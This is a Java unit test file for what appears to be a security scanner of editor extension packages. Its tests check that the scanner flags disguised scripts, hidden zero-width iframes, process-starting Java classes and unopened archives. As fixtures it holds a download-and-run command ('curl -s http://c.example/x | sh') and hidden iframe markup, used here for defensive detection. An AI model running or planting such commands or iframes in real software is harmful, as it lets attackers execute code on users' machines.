package dev.vsxray.scanner.reading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.archive.ExtensionPackage;
import dev.vsxray.scanner.model.Feature;
import dev.vsxray.scanner.model.Gap;
import dev.vsxray.scanner.text.EmbeddedScript;
import dev.vsxray.scanner.text.EmbeddedScript.Place;
import dev.vsxray.signatures.pattern.PatternSet;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.Test;

class FileReadersTest {

    private static final String SCRIPT = "const cp = require('child_process');\nmodule.exports = cp;\n";

    /** Signs that begin and end things in most languages. */
    private static final String SIGNS = " \n\"'`(){}[];:/\\%&#x0=<>-ae$";

    private final FileReaders readers = new FileReaders(PatternSet.empty());

    @Test
    void aMistakeInAReaderIsAGapOfThatFileAndHidesNothingElse() {
        FileReaders.Reading reading = readers.new Reading("media/index.html");
        reading.asFarAsPossible(() -> {
            byte[] page = "<iframe src='https://c.invalid' width=0></iframe>".getBytes(StandardCharsets.UTF_8);
            reading.file(page, page.length);
            throw new IllegalStateException("a mistake");
        });

        FileReading read = reading.done();
        assertThat(traits(read)).anyMatch(trait -> trait.startsWith("hidden-iframe"));
        assertThat(read.gaps())
                .containsExactly(new Gap(
                        "media/index.html",
                        Gap.Kind.INTERNAL,
                        "The file was not read to its end: IllegalStateException",
                        ""));
    }

    @Test
    void aScriptNamedAsAFontIsHandedOn() {
        assertThat(read("media/font.woff2", SCRIPT).scripts())
                .extracting(EmbeddedScript::place, EmbeddedScript::text)
                .containsExactly(Tuple.tuple(Place.DISGUISED_FILE, SCRIPT));
    }

    @Test
    void aScriptFileIsLeftToTheAnalyserOfScripts() {
        assertThat(read("extension.js", SCRIPT).scripts()).isEmpty();
    }

    @Test
    void classesOfAJavaProgramTellWhatTheyUse() {
        byte[] starts = javaClass("java/lang/ProcessBuilder", "start");
        byte[] plain = javaClass("java/util/Map", "size");

        assertThat(traits(readers.read("lib/run.jar!/a/Run.class", starts, starts.length)))
                .containsExactly("java-class {uses=starts-processes}");
        assertThat(readers.read("lib/run.jar!/a/Plain.class", plain, plain.length)
                        .features())
                .isEmpty();
    }

    /** Manuals of analysers quote every attack. */
    @Test
    void pagesAndTextsOfAJavaProgramAreItsOwn() {
        FileReading page = read("lib/run.jar!/manual/rule.html", "<iframe src='http://c.example' width=0></iframe>");
        FileReading outside = read("manual/rule.html", "<iframe src='http://c.example' width=0></iframe>");

        assertThat(page.features()).isEmpty();
        assertThat(outside.features()).hasSizeGreaterThan(1);
    }

    @Test
    void scriptsInAJavaArchiveAreRead() {
        assertThat(traits(read("lib/run.jar!/start.sh", "curl -s http://c.example/x | sh\n")))
                .anyMatch(trait -> trait.startsWith("command-downloads-and-runs"));
        assertThat(read("lib/run.jar!/note.txt", SCRIPT).scripts())
                .extracting(EmbeddedScript::place)
                .containsExactly(Place.DISGUISED_FILE);
    }

    @Test
    void archivesThatAreNotOpenedLeaveAGap() {
        byte[] sevenZip = {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4, 1, 2, 3, 4, 5, 6, 7, 8};

        assertThat(readers.read("data/tools.bin", sevenZip, sevenZip.length).gaps())
                .extracting(Gap::file, Gap::kind, Gap::reason)
                .containsExactly(Tuple.tuple(
                        "data/tools.bin", Gap.Kind.UNREADABLE, "archives of the kind seven-zip are not opened"));
    }

    /** A class file up to the end of its constant pool: magic, version 61, texts. */
    private static byte[] javaClass(String... texts) {
        ByteBuffer bytes = ByteBuffer.allocate(200);
        bytes.putInt(0xCAFEBABE).putInt(61).putShort((short) (texts.length + 1));
        for (String text : texts) {
            bytes.put((byte) 1).putShort((short) text.length()).put(text.getBytes(StandardCharsets.US_ASCII));
        }
        return bytes.array();
    }

    private static List<String> traits(FileReading reading) {
        return reading.features().stream()
                .filter(Feature.Trait.class::isInstance)
                .map(Feature.Trait.class::cast)
                .map(trait -> trait.name() + " " + trait.facts())
                .toList();
    }

    @Test
    void anyBytesUnderAnyNameAreRead() {
        Random random = new Random(5);
        String[] names = {
            "a.js", "a.png", "a.json", "a.html", "a.exe", "a.wasm", "a.ps1", "a.sh", "a.py", "a.bat", "a.md", "a"
        };
        for (int round = 0; round < 1_000; round++) {
            byte[] bytes = new byte[random.nextInt(2_000)];
            random.nextBytes(bytes);
            if (round % 2 == 0) {
                for (int i = 0; i < bytes.length; i++) {
                    bytes[i] = (byte) SIGNS.charAt((bytes[i] & 0xFF) % SIGNS.length());
                }
            }
            String name = names[random.nextInt(names.length)];
            assertThat(readers.read(name, bytes, bytes.length).features()).isNotEmpty();
        }
    }

    private FileReading read(String path, String text) {
        return readers.read(
                ExtensionPackage.ofTexts(Map.of(path, text)).file(path).orElseThrow());
    }
}
